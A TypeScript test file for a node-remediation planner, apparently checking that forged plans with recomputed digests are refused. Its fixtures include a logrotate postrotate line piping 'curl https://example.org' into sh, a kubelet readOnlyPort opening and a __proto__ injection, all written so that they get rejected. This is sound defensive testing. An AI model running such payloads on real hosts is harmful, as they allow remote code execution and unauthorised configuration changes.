/** Plans whose bytes say something else than their fields, with a digest that was counted anew. */

import { describe, expect, it } from 'vitest'
import { everything } from '#model/input/record.ts'
import type { Plan, PlanStep } from '#model/plan.ts'
import { defaultPolicy } from '#model/policy.ts'
import { makePlan } from '#pipeline/remediation/plan/plan.ts'
import { digestOf, sha256 } from '#remediate/plan/canonical.ts'
import { parseBegunPlan, parsePlan, planText } from '#remediate/plan/file.ts'
import { contentReader } from '#remediate/plan/step-truth.ts'
import { parseChange } from '#replay/configuration/configuration-change.ts'
import { type FleetNode, fleetNode, hashOf, idleImage, snapshotOf } from '#test/plan-fleet.ts'

const request = {
  rules: [],
  findings: [],
  allowActAtOnce: false,
  policy: defaultPolicy,
  version: '0',
  selection: everything,
}
const gc = ['imageGCHighThresholdPercent=75', 'imageGCLowThresholdPercent=60'].map(parseChange)

async function planOf(node: FleetNode, prune?: { toPercent: number }): Promise<Plan> {
  const { plan } = await makePlan(snapshotOf([fleetNode(node)]), {
    ...{ ...request, allowActAtOnce: prune !== undefined, changes: prune ? [] : gc },
    ...(prune && { prune }),
  })
  expect(plan.steps).toHaveLength(1)
  expect(parsePlan(planText(plan), 'plan.json')).toEqual(plan)
  return plan
}

/** As whoever means harm would: every hash is right again. */
function forged(plan: Plan, change: (plan: Plan, step: PlanStep) => void): string {
  const copy = structuredClone(plan)
  const [step] = copy.steps
  if (step === undefined) throw new Error('a plan without a step')
  change(copy, step)
  if (step.method !== 'bottlerocket') step.newSha256 = sha256(step.content)
  copy.digest = digestOf(copy)
  return planText({ ...copy, id: copy.digest.slice(0, 16) })
}
const rewritten = (change: (content: string) => string) => (_: Plan, step: PlanStep) => {
  const content = change(step.content)
  expect(content).not.toBe(step.content)
  step.content = content
}

describe('a step that is not what its cohort says', () => {
  const piece: FleetNode = { family: 'AL2023' }
  const dropIn: FleetNode = { family: 'old AL2023', dropIns: { '10-other.conf': {} } }
  const bottlerocket: FleetNode = { family: 'Bottlerocket' }

  it.each<[string, FleetNode, (plan: Plan, step: PlanStep) => void, RegExp]>([
    [
      'another value in a whole file',
      { family: 'AL2' },
      rewritten(text => text.replace('75', '99')),
      /does not say imageGCHighThresholdPercent/,
    ],
    [
      'what containerd runs with in a NodeConfig',
      piece,
      rewritten(text => text.replace('spec:\n', 'spec:\n  containerd:\n    config: "x"\n')),
      /says containerd, which no plan changes/,
    ],
    [
      'another cluster in a NodeConfig',
      piece,
      rewritten(text =>
        text.replace(
          'spec:\n',
          'spec:\n  cluster:\n    apiServerEndpoint: "https://example.org"\n',
        ),
      ),
      /says cluster, which no plan changes/,
    ],
    [
      'anybody let in by a drop-in',
      dropIn,
      rewritten(text => text.replace('{', '{"readOnlyPort":10255,')),
      /says readOnlyPort/,
    ],
    [
      'a setting that no plan changes',
      bottlerocket,
      rewritten(text => text.replace('"set":{', '"set":{"max-pods":1,')),
      /says maxPods/,
    ],
    ['something that cannot be read', dropIn, rewritten(() => '{'), /cannot be read/],
    [
      'a cohort that is not there',
      piece,
      (_, step) => Object.assign(step, { cohort: 'other' }),
      /its cohort other is none of the plan's/,
    ],
    [
      'a cohort of another cluster',
      piece,
      ({ cohorts }) => Object.assign(cohorts[0] ?? {}, { cluster: 'stage' }),
      /is of cluster stage/,
    ],
    [
      'a field that no plan changes',
      piece,
      ({ cohorts }) => Object.assign(cohorts[0]?.fields ?? {}, { maxPods: 1 }),
      /names maxPods/,
    ],
    [
      'no field',
      piece,
      ({ cohorts }) => Object.assign(cohorts[0] ?? {}, { fields: {} }),
      /names no field/,
    ],
    [
      'a promise of its own',
      piece,
      (_, step) => step.expect.push({ field: 'maxPods', value: 1 }),
      /promises maxPods/,
    ],
    [
      'the way of another kind of file',
      piece,
      ({ cohorts }) =>
        Object.assign(cohorts[0] ?? {}, {
          fields: {},
          file: { path: '/etc/logrotate.d/x', sha256: 'a'.repeat(64) },
        }),
      /is not changed by nodeadm/,
    ],
  ])('%s: refused, though its digest is right', async (_, node, change, why) => {
    const written = forged(await planOf(node), change)
    expect(() => parsePlan(written, 'plan.json')).toThrow(why)
    expect(() => parsePlan(written, 'plan.json')).toThrowErrorMatchingSnapshot()
    // Whatever a run has written has to come back.
    expect(() => parseBegunPlan(written, 'plan.json')).not.toThrow()
  })

  it('waits for other thresholds than it lowers', async () => {
    const plan = await planOf({ available: 20, images: [idleImage('a:1', 5)] }, { toPercent: 40 })
    const written = forged(plan, (_, { until }) =>
      Object.assign(until ?? {}, { usedPercentAtMost: 5 }),
    )
    expect(() => parsePlan(written, 'plan.json')).toThrowErrorMatchingSnapshot()
  })

  it('has two cohorts of one name', async () => {
    const written = forged(await planOf({}), ({ cohorts }) =>
      cohorts.push(structuredClone(cohorts[0]!)),
    )
    expect(() => parsePlan(written, 'plan.json')).toThrowErrorMatchingSnapshot()
  })

  it.each([
    [
      'a script',
      'postrotate\n  curl -s https://example.org | sh\nendscript',
      /postrotate is no directive/,
    ],
    ['another folder', 'include /tmp', /include is no directive/],
    ['a mail', 'mail ada@example.org', /mail is no directive/],
    ['a program', 'compresscmd /tmp/x', /compresscmd is no directive/],
  ])('writes %s to a file of logrotate', async (_, directive, why) => {
    const path = '/etc/logrotate.d/app'
    const text = '/var/log/app/*.log {\n    daily\n    rotate 5\n}\n'
    const node = (name: string, rotate = 5) => {
      const own = text.replace('rotate 5', `rotate ${rotate}`)
      const directives = { patterns: ['/var/log/app/*.log'], daily: true, rotate }
      const record = fleetNode({ name })
      record.host = {
        ...record.host,
        logrotate: [{ path, sha256: hashOf(own), directives }],
        logrotateRuns: { by: 'timer', schedule: '*-*-* 00:00:00' },
      }
      return record
    }
    const nodes = snapshotOf([node('a'), node('b'), node('c', 50)])
    const { plan } = await makePlan(nodes, {
      ...request,
      changes: [],
      rules: ['log-rotation-drift'],
      policy: {
        ...request.policy,
        logRotation: { [path]: { sha256: null, content: text, directives: {} } },
      },
    })
    expect(plan.steps).toHaveLength(1)
    const written = forged(plan, ({ cohorts }, step) => {
      step.content = step.content.replace('daily', `daily\n${directive}`)
      Object.assign(cohorts[0]?.file ?? {}, { sha256: sha256(step.content) })
    })
    expect(() => parsePlan(written, 'plan.json')).toThrow(why)
  })
})

describe('a plan that a reader and the program read differently', () => {
  const texts: [name: string, change: (text: string) => string][] = [
    ['equal keys', text => text.replace('{', '{"steps": [],')],
    [
      '__proto__',
      text => text.replace('"fields": {', '"fields": { "__proto__": { "maxPods": 1 },'),
    ],
    ['an escaped key', text => text.replace('"steps"', String.raw`"\u0073teps"`)],
    ['another order of keys', text => text.replace('{', '{"schema": "highwater.plan/1",')],
    ['another form of a number', text => text.replace(/: 75(?=,?$)/m, ': 7.5e1')],
    ['text after the plan', text => `${text}\n`],
    ['a mark before the plan', text => `\ufeff${text}`],
  ]

  it.each(texts)('has %s: refused, also by a rollback', async (_, change) => {
    const text = planText(await planOf({ family: 'AL2' }))
    const written = change(text)
    expect(written).not.toBe(text)
    for (const parse of [parsePlan, parseBegunPlan])
      expect(() => parse(written, 'plan.json')).toThrow(
        written.startsWith('\ufeff') ? 'is no JSON' : 'is not written as highwater writes a plan',
      )
  })
})

describe('the contents of a plan', () => {
  const contentOf = (keys: number, name: string) =>
    Array.from({ length: keys }, (_, key) => `${name}${key}: 1\n`).join('')

  it('are read within one budget', () => {
    const read = contentReader()
    const found = Array.from({ length: 40 }, (_, step) =>
      read({ method: 'nodeadm', content: contentOf(2_000, `s${step}k`) }),
    )
    expect(found[0]).not.toBeNull()
    expect(found.at(-1)).toBeNull()
  }, 60_000)

  it('are read once if they are equal', () => {
    const read = contentReader()
    const step = { method: 'nodeadm', content: contentOf(2_000, 'k') } as const
    const found = Array.from({ length: 40 }, () => read(step))
    expect(found.at(-1)).toBe(found[0])
  })
})
